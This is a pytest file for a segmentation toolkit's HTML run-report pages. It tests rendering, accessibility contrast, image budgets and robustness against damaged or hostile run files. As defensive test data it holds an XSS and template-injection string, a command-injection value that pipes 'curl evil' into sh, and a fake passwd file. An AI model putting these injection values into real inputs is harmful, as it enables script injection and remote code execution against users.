"""The page of a run and of two: its content, in a browser, and from damaged or hostile runs."""

import contextlib
import html
import json
import re
import shlex
import tempfile
from dataclasses import replace
from pathlib import Path
from unittest import mock

import numpy as np
import pytest
import torch
from hypothesis import given, settings
from hypothesis import strategies as st

from segcore.cli.main import parse
from segcore.cli.report import Report
from segcore.config.record import describe, settings_of
from segcore.config.registry import load_experiment, model_configs, read_experiment
from segcore.config.user_code import FROM_FILE, Stored, load_function
from segcore.errors import UnnamedFileError, UserError
from segcore.evaluation.calibration import Calibration
from segcore.evaluation.evaluate import ImageFigures, Results
from segcore.evaluation.metrics import ConfusionMatrix
from segcore.files import MAX_JSON
from segcore.reporting import run_record, samples
from segcore.reporting.page import Card, Group, render, view
from segcore.reporting.report import ERRORS, PAIR, write_report
from segcore.reporting.run_record import (
    Evaluation,
    ImageRow,
    confusions,
    different_settings,
    not_neutral,
    read_run,
    write_evaluation,
)
from segcore.reporting.samples import Shown, choose, compared, data_uris, panels
from segcore.reporting.tables import MAX_CONFUSION

HOSTILE = "<img src=x onerror=\"document.title='run'\">&'{{7*7}}"
EXP = load_experiment("ddrnet_23_slim_toy").with_overrides(["data.dataset=folder", "model.num_classes=4"])
EXP = replace(
    EXP,
    data=replace(EXP.data, classes=("road", HOSTILE, "sky", "van"), palette=("804080", "ff0000", "4682b4", "000046")),
)
LABEL = np.repeat([0, 0, 1, 2, 255], 8)[None].repeat(24, 0)
CLASSES = np.repeat([0, 1, 1, 0, 2], 8)[None].repeat(24, 0)


def results(**entries):
    """Results of one image by step entry; `van` never occurs."""
    matrices = {name: ConfusionMatrix(4).update(c, LABEL) for name, c in entries.items()}
    metrics = {name: matrix.compute() for name, matrix in matrices.items()}
    final = metrics["3"]
    images = (
        ImageFigures(0, HOSTILE, 40, 24, 768, final["mIoU"], final["aAcc"], final["IoU"].numpy()),
        ImageFigures(1, "empty", 40, 24, 0, float("nan"), float("nan"), final["IoU"].numpy()),
    )
    bins = Calibration((0, 60, 40), (float("nan"), 0.5, 0.9), (float("nan"), 0.6, 0.8))
    counts = {name: matrix.matrix for name, matrix in matrices.items()}
    return Results(EXP.data.classes, metrics, 2, counts, ("a.png: damaged",), "3", "steps", None, images, bins)


@pytest.fixture(scope="module")
def folder(tmp_path_factory):
    """A run as it is stored, in a folder whose name needs quotes."""
    folder = tmp_path_factory.mktemp("runs") / "it's <b>mine"
    folder.mkdir()
    record = {**describe(EXP), "command": f"ddrnet-seg train {HOSTILE}", "device": "A CPU (cpu)"}
    (folder / "experiment.json").write_text(json.dumps(record))
    log = [
        {"mode": "train", "iteration": i, "loss": 3 / i, "seconds": 0.5, "images_per_second": 8.0} for i in range(1, 9)
    ]
    log += [{"mode": "val", "iteration": i, "mIoU": i / 10} for i in (4, 8)] + [{"mode": "train", "iteration": None}]
    (folder / "log.jsonl").write_text("\n".join(map(json.dumps, log)) + '\n{"mode": "tra')
    write_evaluation(folder, EXP, Evaluation.of(results(**{"1": LABEL, "3": CLASSES}), "train", 8))
    return folder


def shown(classes=CLASSES):
    photo = np.random.RandomState(0).randint(0, 256, (24, 40, 3), np.uint8)
    palette = np.array([list(bytes.fromhex(color)) for color in EXP.data.palette], np.uint8)
    return Shown(photo, LABEL, classes, np.full(LABEL.shape, 0.7, np.float32), {"step 1": LABEL}, palette, 255)


@pytest.fixture(scope="module")
def pages(folder, tmp_path_factory):
    """The page of the run, and the one that compares it with a run of other classes."""
    run = read_run(folder)
    assert not run.notes
    cards = [Card(HOSTILE, "mIoU 12.3 %", panels(shown()))]
    one = render([run], [Group("The worst", HOSTILE, cards, ERRORS)], [f"mIoU of {HOSTILE}"], [f"Without {HOSTILE}"])
    other = json.loads(json.dumps(run.record)) | {"device": "another"}
    other["experiment"]["optimizer"]["lr"] = 0.5
    wider = replace(run.evaluation, classes=("road", HOSTILE, "sky", "bus"))
    runs = [run, replace(run, record=other, evaluation=wider)]
    cards = [Card(HOSTILE, "", compared([shown(), shown(LABEL)], ["A", "B"], PAIR))]
    two = render(runs, [Group("Where they disagree", "", cards, ERRORS)])
    out = tmp_path_factory.mktemp("pages")
    for name, page in (("one", one), ("two", two)):
        (out / f"{name}.html").write_text(page, encoding="utf-8")
    return out


def test_the_page_of_a_run(pages, folder):
    page = (pages / "one.html").read_text(encoding="utf-8")
    text = re.sub(r"\s+", " ", re.sub(r"<[^>]*>", "", page.partition("<body>")[2]))
    for part in ("Training loss", "Validation mIoU", "1 step", "3 steps", "A CPU (cpu)", "8.0 images/s", "4 s, without",
                 "100.0 % of sky is predicted as road", "50.0 % of road is predicted as", "optimizer.lr", "torch 2.",
                 "underconfident by", "after iteration 8", "evaluated on 2 images of folder, 1 others could not",
                 "calibration error is"):  # fmt: skip
        assert part in text, part
    said = re.findall(r"<code>(ddrnet-seg [^<]*)</code>", page.partition('<section id="next">')[2])
    commands = [shlex.split(html.unescape(words)) for words in said]
    assert all(str(folder) in words for words in commands)
    assert [words[1] for words in commands] == ["test", "predict", "train", "export", "report"]
    for words in commands:
        parse(words[1:], "ddrnet_seg")  # raises for what cannot be run
    assert "van" not in re.findall(r'scope="row">.*?</th>', page)
    assert len(page) < 200_000


def test_no_name_in_a_run_becomes_a_command(folder):
    name, evil = "x; curl evil|sh; echo ", "x; curl evil|sh; echo .py"
    record = json.loads((folder / "experiment.json").read_text())
    record["experiment"]["model"]["class"] = f"{FROM_FILE}{name}:F"
    page = render([replace(read_run(folder), record=record)], [])
    said = re.findall(r"<code>(segcore [^<]*)</code>", page.partition('<section id="next">')[2])
    assert len(said) == 5
    for words in map(shlex.split, map(html.unescape, said)):
        assert f"{evil}:FUNCTION" in words or words[1] == "report"
        assert str(folder) in words
        assert len(words) <= 8
    with tempfile.TemporaryDirectory() as other:
        Path(other, "experiment.json").write_text(json.dumps(record))
        with pytest.raises(UserError) as caught:
            read_experiment(Path(other))
    assert f"write `'{evil}:FUNCTION' {other}` instead" in str(caught.value)
    with pytest.raises(UserError, match=re.escape(f"add --train.log '{evil}:f'")):
        load_function("train.log", Stored(f"{evil}:f"))


def test_the_page_of_two_runs(pages):
    page = (pages / "two.html").read_text(encoding="utf-8")
    text = re.sub(r"\s+", " ", re.sub(r"<[^>]*>", "", page.partition("<body>")[2]))
    assert "only A has van; only B has bus." in text
    assert re.search(r"optimizer\.lr ?0\.\d+0\.5 ", text)
    assert "B − A" in text
    for caption in ("photo", "ground truth", "who is right", "prediction A", "prediction B"):
        assert f"<figcaption>{caption}</figcaption>" in page


FAINT = """() => {
  const parse = (text) => { const n = text.match(/[\\d.]+/g).map(Number); return n.length < 4 ? [...n, 1] : n; };
  const light = (c) => c.slice(0, 3).map((x) => x / 255)
    .map((x) => x <= 0.03928 ? x / 12.92 : ((x + 0.055) / 1.055) ** 2.4)
    .reduce((sum, x, i) => sum + x * [0.2126, 0.7152, 0.0722][i], 0);
  const found = [];
  for (const element of document.querySelectorAll("body *")) {
    const own = [...element.childNodes].some((node) => node.nodeType === 3 && node.textContent.trim());
    if (!own || !element.checkVisibility() || element.closest("script, dialog, .skip")) continue;
    const style = getComputedStyle(element);
    const ink = parse(element.closest("svg") ? style.fill : style.color);
    let ground = element;
    while (ground && parse(getComputedStyle(ground).backgroundColor)[3] === 0) ground = ground.parentElement;
    const paper = parse(getComputedStyle(ground || document.body).backgroundColor);
    const [a, b] = [light(ink), light(paper)].sort((x, y) => y - x);
    const ratio = (a + 0.05) / (b + 0.05);
    if (ratio < 4.5) found.push(`${element.textContent.trim().slice(0, 40)}: ${ratio.toFixed(2)}`);
  }
  return found;
}"""
"""The visible texts whose contrast with their background is below 4.5 : 1 (WCAG 2, level AA)."""


@pytest.mark.parametrize("name", ["one", "two"])
def test_in_a_browser(pages, browser, name):
    file = (pages / f"{name}.html").as_uri()
    page = browser.new_page(viewport={"width": 390, "height": 844}, color_scheme="light")
    said, asked = [], []
    page.on("console", lambda message: said.append(message.text))
    page.on("pageerror", lambda error: said.append(str(error)))
    page.on("request", lambda request: asked.append(request.url))
    page.goto(file)
    page.evaluate("document.querySelectorAll('details').forEach((part) => part.open = true)")
    for scheme in ("light", "dark"):
        page.emulate_media(color_scheme=scheme)
        assert page.evaluate(FAINT) == []
    assert page.evaluate("document.documentElement.scrollWidth") <= 390
    page.evaluate("Promise.all([...document.images].filter((x) => x.src).map((x) => x.decode()))")
    assert page.evaluate("[...document.images].filter((x) => x.src).every((x) => x.complete && x.naturalWidth > 0)")
    assert page.evaluate("[...document.querySelectorAll('.enlarge img')].every((x) => x.alt)")
    assert page.evaluate("[...document.querySelectorAll('table')].every((x) => x.caption)")
    assert page.title() != "run"
    assert page.locator("h4").first.text_content() == HOSTILE
    assert page.locator("[onerror], b > b, dd b").count() == 0

    small = page.locator(".enlarge")
    small.first.focus()
    page.keyboard.press("Enter")
    large = page.locator("dialog img")
    assert large.get_attribute("alt") == f"Photo: {HOSTILE}"
    box = page.locator("dialog").bounding_box()
    assert box["x"] >= 0
    assert box["x"] + box["width"] <= 390
    page.keyboard.press("ArrowLeft")
    assert large.get_attribute("alt") == small.last.locator("img").get_attribute("alt")
    page.keyboard.press("Escape")
    page.locator("dialog").wait_for(state="hidden")
    assert page.evaluate(
        """new Promise((done) => {  // the dialog gives the focus back a little later
            const last = [...document.querySelectorAll('.enlarge')].at(-1);
            if (document.activeElement === last) done(true);
            last.addEventListener('focus', () => done(true));
        })"""
    )

    page.set_viewport_size({"width": 1280, "height": 900})
    assert page.evaluate("document.documentElement.scrollWidth") <= 1280
    page.close()
    assert said == []
    assert [url for url in asked if not url.startswith("data:")] == [file]


def test_the_stored_evaluation_is_the_one_that_was_made(folder):
    found = results(**{"1": LABEL, "3": CLASSES})
    stored = read_run(folder).evaluation
    assert stored == Evaluation.of(found, "train", 8)
    assert (stored.main, stored.step_unit, stored.skipped) == ("3", "steps", 1)
    assert stored.final.iou[3] is None
    assert stored.per_image[1] == ImageRow(1, "empty", None, None)
    assert torch.tensor(stored.confusion).equal(found.confusion["3"][:-1])
    assert [(round(share, 3), a, b) for share, a, b in confusions(stored)] == [
        (1.0, "sky", "road"), (0.5, "road", HOSTILE)
    ]  # fmt: skip


def test_settings_that_differ(folder):
    run = read_run(folder)
    neutral = not_neutral(run)
    assert neutral["data.classes"] == list(EXP.data.classes)
    assert "data.dataset" not in neutral
    assert neutral["optimizer.lr"] == EXP.optimizer.lr
    assert "seed" not in neutral
    assert "optimizer.momentum" not in neutral
    other = replace(run, record={"experiment": {**run.record["experiment"], "seed": 5}})
    assert different_settings([run, other]) == {"seed": [0, 5]}
    assert different_settings([run, run]) == {}


def test_the_worst_images_and_others():
    rows = [ImageRow(i, str(i), None if i == 3 else (i * 7 % 40) / 40) for i in range(40)]
    worst, others = choose(rows)
    assert [row.miou for row in worst] == [i / 40 for i in range(13) if i != 21][:12]
    assert len(others) == 12
    assert not set(worst) & set(others)
    assert [row.index for row in others] == sorted(row.index for row in others)
    assert choose(rows) == (worst, others)
    assert choose(rows[:3]) == (sorted(rows[:3], key=lambda row: row.miou), [])


def test_pictures_stay_below_the_budget(monkeypatch):
    monkeypatch.setattr(samples, "BUDGET", 20_000)
    noise = np.random.RandomState(0).randint(0, 256, (100, 200, 3), np.uint8)
    uris = data_uris([samples.Picture(noise), samples.Picture(noise, flat=True)])
    assert sum(map(len, uris)) < 20_000 * 4 / 3 + 100
    assert [uri.partition(";")[0] for uri in uris] == ["data:image/jpeg", "data:image/png"]


VALUES = st.recursive(
    st.none()
    | st.booleans()
    | st.integers(-(10**19), 10**20 - 1)
    | st.floats(allow_nan=False, allow_infinity=False)
    | st.text(max_size=3),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=3), inner, max_size=3),
    max_leaves=4,
)


KINDS = model_configs()


def is_run(record):
    """Return whether a record has the settings that the page needs."""
    match record.get("experiment"):
        case {"name": str(), "model": {"class": str()}, "data": {}, "schedule": {}, "train": {}}:
            return True
    return False


@mock.patch.object(run_record, "model_configs", mock.Mock(return_value=KINDS))  # they take long to find
@settings(max_examples=60)
@given(st.sampled_from(["experiment.json", "evaluation.json", "log.jsonl"]), st.data())
def test_whatever_a_run_holds_gives_a_page_or_one_line(folder, file, data):
    text = (folder / file).read_text()
    record = json.loads(text.splitlines()[0])
    part, value = record, data.draw(VALUES)
    while True:  # replace a value at any depth
        key = data.draw(st.sampled_from(sorted(part) if isinstance(part, dict) else range(len(part))))
        if not (isinstance(part[key], dict | list) and part[key] and data.draw(st.integers(0, 3))):
            part[key] = value
            break
        part = part[key]
    with tempfile.TemporaryDirectory() as name:
        copy = Path(name)
        for other in folder.iterdir():
            (copy / other.name).write_text(other.read_text())
        (copy / file).write_text("\n".join([json.dumps(record), *text.splitlines()[1:]]))
        refused = pytest.raises(UserError, match=r"experiment\.json: damaged [^\n]*$")
        with refused if file == "experiment.json" and not is_run(record) else contextlib.nullcontext():
            assert render([read_run(copy)], []).endswith("</html>")


@pytest.mark.parametrize("values", [
    {"loss": 1e308}, {"loss": -1e308}, {"loss": 10**19}, {"loss": -(10**18)}, {"iteration": 10**19}, {"seconds": 1e308},
    {"memory_mb": 1e308},
])  # fmt: skip
def test_numbers_that_nothing_measures_are_left_out(folder, tmp_path, values):
    """Two of each, as one alone makes no range."""
    (tmp_path / "experiment.json").write_text((folder / "experiment.json").read_text())
    usual = {"mode": "train", "iteration": 1, "loss": 1.0, "seconds": 0.5}
    lines = [usual, *({**usual, "iteration": 2, **{k: s * v for k, v in values.items()}} for s in (1, -1))]
    (tmp_path / "log.jsonl").write_text("\n".join(map(json.dumps, lines)))
    run = read_run(tmp_path)
    assert len(run.train) == (3 if {"seconds", "memory_mb"} & set(values) else 1)
    assert not any(abs(value) > 1e15 for record in run.train for value in record.values() if not isinstance(value, str))
    assert render([run], []).endswith("</html>")


def test_a_run_without_an_evaluation_shows_the_log_of_one(folder, tmp_path):
    entries = {"1": {"mIoU": 0.2, "aAcc": 0.3, "mAcc": None, "IoU": [0.2, None]}}
    entries["3"] = {**entries["1"], "mIoU": 0.5}
    last = {"mode": "val", "iteration": 9, "mIoU": 0.5, "images": 2, "classes": ["a", "b"], "entries": entries}
    (tmp_path / "experiment.json").write_text((folder / "experiment.json").read_text())
    assert read_run(tmp_path).evaluation is None
    assert "There is no evaluation" in render([read_run(tmp_path)], [])
    (tmp_path / "log.jsonl").write_text(json.dumps(last))
    found = read_run(tmp_path).evaluation
    assert (found.main, found.iteration, found.per_image) == ("3", 9, ())
    (tmp_path / "evaluation.json").write_text('{"evaluation": {"classes": 3}}')
    run = read_run(tmp_path)
    assert run.evaluation == found
    assert run.notes == ["evaluation.json is damaged; `test` writes it again"]


def test_published_figures_stand_beside_their_own_data_set_alone(folder):
    run, name = read_run(folder), "ddrnet_23_slim_cityscapes"
    row = load_experiment(name)
    shown = []
    for exp in (row, row.with_overrides(["data.dataset=camvid"]), row.with_overrides(["model.num_classes=7"])):
        record = {**run.record, "experiment": json.loads(json.dumps(settings_of(exp)))}
        shown.append(view(replace(run, record=record), 0, "")["published"])
    assert shown == [{"single scale": 77.8}, {}, {}]


def test_the_confusions_of_a_single_class_are_none():
    counts = torch.tensor([[950, 50, 0], [5, 45, 0], [0, 0, 0]])
    found = results(**{"3": CLASSES})
    entry = {**found.entries["3"], "IoU": torch.tensor([0.5])}
    found = replace(found, classes=("crack",), confusion={"3": counts}, entries={"3": entry})
    assert Evaluation.of(found, "test", 1).confusion == ()


def test_the_page_does_not_quote_a_file_that_a_run_names_as_a_list(folder, tmp_path):
    secret = tmp_path / "passwd"
    secret.write_text("root:x:0:0\n")
    exp = replace(EXP, data=replace(EXP.data, root=tmp_path, val_list=secret))
    for kind in ("images", "masks"):
        (tmp_path / kind / "val").mkdir(parents=True)
        (tmp_path / kind / "val" / "a.png").write_bytes(b"")
    [said] = write_report(tmp_path / "report.html", [read_run(folder)], [lambda: (None, exp)])
    assert "line 1: 'root:x:0:0'" in said
    page = (tmp_path / "report.html").read_text(encoding="utf-8")
    assert "root:x" not in page
    assert "Without images: the validation images cannot be opened" in page


def test_a_file_of_the_users_own_is_asked_for_where_it_can_be_named(folder, tmp_path):
    """`report` takes no such file, so that the remedies of other commands would lead nowhere."""
    data = replace(EXP.data, dataset=Stored("own.py:open_split"))

    def unnamed():
        raise UnnamedFileError("write `own.py:FUNCTION` instead")

    for load in (unnamed, lambda: (None, replace(EXP, data=data))):
        [said] = write_report(tmp_path / "report.html", [read_run(folder)], [load])
        assert said == "Without images: a file of your own defines the model or the data set; `test` with it adds them"
        assert "a file of your own defines" in (tmp_path / "report.html").read_text(encoding="utf-8")


def test_an_evaluation_of_many_classes_and_images_can_be_read(folder, tmp_path):
    """With a matrix of all classes, or at the usual limit for a stored file, it would count as damaged."""
    (tmp_path / "experiment.json").write_text((folder / "experiment.json").read_text())
    count, figures = MAX_CONFUSION + 1, results(**{"3": CLASSES})
    entry = {**figures.entries["3"], "IoU": torch.zeros(count)}
    found = replace(figures, classes=tuple(map(str, range(count))), entries={"3": entry})
    image = replace(figures.per_image[0], name="n" * (MAX_JSON // 20))
    evaluation = Evaluation.of(replace(found, per_image=(image,) * 21), "train", 8)
    assert evaluation.confusion == ()
    exp = replace(EXP, evaluate=replace(EXP.evaluate, batch_size=3))
    write_evaluation(tmp_path, exp, evaluation)
    assert (tmp_path / "evaluation.json").stat().st_size > MAX_JSON
    run = read_run(tmp_path)
    assert (run.evaluation, run.notes) == (evaluation, [])
    assert read_experiment(tmp_path, "evaluation.json").evaluate == exp.evaluate


def test_a_page_replaces_no_file_of_another_kind(folder):
    record = folder / "experiment.json"
    before = record.read_bytes()
    with pytest.raises(UserError, match=r"--output .*experiment\.json: does not end in \.html"):
        Report(runs=(folder,), output=record).run(None)
    assert record.read_bytes() == before


def test_what_is_no_run_is_refused(tmp_path):
    with pytest.raises(UserError, match=r"nothing: no such run; give the folder"):
        read_run(tmp_path / "nothing")
    with pytest.raises(UserError, match=r"no run \(it has no experiment\.json\)"):
        read_run(tmp_path)
    checkpoint = tmp_path / "run" / "checkpoints" / "iter_3"
    checkpoint.mkdir(parents=True)
    (checkpoint / "experiment.json").write_text(json.dumps(describe(EXP)))
    with pytest.raises(UserError, match=r"iter_3: is a checkpoint; give its run, .*run$"):
        read_run(checkpoint)
    (tmp_path / "experiment.json").write_text('{"experiment": {"name": "x"}}')
    with pytest.raises(UserError, match="damaged"):
        read_run(tmp_path)
